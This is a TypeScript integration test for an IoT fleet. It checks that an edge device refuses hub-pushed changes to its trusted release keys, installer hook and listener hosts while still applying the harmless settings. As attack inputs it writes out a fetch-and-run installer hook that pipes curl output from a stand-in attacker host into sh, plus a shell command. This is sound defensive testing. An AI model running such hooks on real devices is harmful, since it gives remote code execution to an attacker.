import { describe, expect, it } from 'vitest'
import { generateReleaseKey } from '../../shared/ota/release-keys.js'
import { startFleet } from '../harness/fleet.js'
import { waitFor } from '../helpers/wait.js'

/**
 * The "remote root through config" attack: a hub admin sets the edge's
 * trusted release keys, its installer hook and its listeners through the
 * group and device documents. A real hub, a real config sync.
 */
describe('device-local keys arriving from the hub', () => {
  it('are refused key by key (CONFIG_ERR_DEVICE_LOCAL_KEY, reported to the hub) while the rest of the documents applies', async () => {
    const fleet = await startFleet(1)
    try {
      const edge = fleet.edges[0]!
      const before = edge.runtime.config
      await waitFor(async () => (await fleet.hub.get<Record<string, any>>(`/v1/config/devices/${edge.deviceId}`)).body.twin.inSync, { what: 'first sync' })
      const rogue = generateReleaseKey()
      const group = await fleet.hubEdit('/v1/config/groups/plant', {
        set: {
          'ota.trustedKeys': [rogue.publicKeyPem],
          'ota.installerHook': 'curl -s http://attacker.example/x | sh',
          'mqtt.host': '0.0.0.0',
          'ingest.maxPayloadBytes': 2048,
        },
      })
      expect(group.status, JSON.stringify(group.body)).toBe(200)
      const device = await fleet.hubEdit(`/v1/config/devices/${edge.deviceId}`, { set: { 'http.host': '0.0.0.0', 'hub.alertBatchSize': 25, ota: { installerHook: ['/bin/sh', '-c', 'id'], pollIntervalSeconds: 40 } } })
      expect(device.status, JSON.stringify(device.body)).toBe(200)

      await waitFor(() => edge.runtime.config.ingest.maxPayloadBytes === 2048 && edge.runtime.config.hub.alertBatchSize === 25, { what: 'the allowed keys to apply' })
      const config = edge.runtime.config
      expect(config.ota.pollIntervalSeconds).toBe(40)
      expect(config.ota.trustedKeys).toEqual(before.ota.trustedKeys)
      expect(config.ota.installerHook).toBeUndefined()
      expect(config.mqtt.host).toBe(before.mqtt.host)
      expect(config.http.host).toBe(before.http.host)

      const expected = [
        { key: 'http.host', layer: 'device' },
        { key: 'mqtt.host', layer: 'group' },
        { key: 'ota.installerHook', layer: 'group' },
        { key: 'ota.installerHook', layer: 'device' },
        { key: 'ota.trustedKeys', layer: 'group' },
      ]
      const byKey = (a: { key: string; layer?: string }, b: { key: string; layer?: string }) => `${a.key}/${a.layer}`.localeCompare(`${b.key}/${b.layer}`)
      const local = await edge.config()
      expect(local.status).toBe('applied')
      expect([...local.errors].sort(byKey)).toEqual(expected.sort(byKey).map((e) => expect.objectContaining({ ...e, code: 'CONFIG_ERR_DEVICE_LOCAL_KEY' })))

      // Reported to the hub in the config report's errors.
      const twin = await waitFor(async () => {
        const t = (await fleet.hub.get<Record<string, any>>(`/v1/config/devices/${edge.deviceId}`)).body.twin
        return t.errors.length === expected.length ? t : undefined
      }, { what: 'the refusals to reach the hub' })
      for (const e of expected) expect(twin.errors).toContainEqual(expect.objectContaining({ ...e, code: 'CONFIG_ERR_DEVICE_LOCAL_KEY' }))
      const stats = (await (await fetch(`${edge.httpUrl}/v1/stats`)).json()) as { lifetime: Record<string, number> }
      expect(stats.lifetime['config_refused.CONFIG_ERR_DEVICE_LOCAL_KEY']).toBe(expected.length)

      // Removing them from the documents clears the errors.
      expect((await fleet.hubEdit('/v1/config/groups/plant', { unset: ['ota.trustedKeys', 'ota.installerHook', 'mqtt.host'] })).status).toBe(200)
      expect((await fleet.hubEdit(`/v1/config/devices/${edge.deviceId}`, { unset: ['http.host', 'ota.installerHook'] })).status).toBe(200)
      await waitFor(async () => (await fleet.hub.get<Record<string, any>>(`/v1/config/devices/${edge.deviceId}`)).body.twin.errors.length === 0, { what: 'the errors to clear at the hub' })
      expect(edge.runtime.config.ingest.maxPayloadBytes).toBe(2048)
    } finally {
      await fleet.dispose()
    }
  }, 60_000)
})
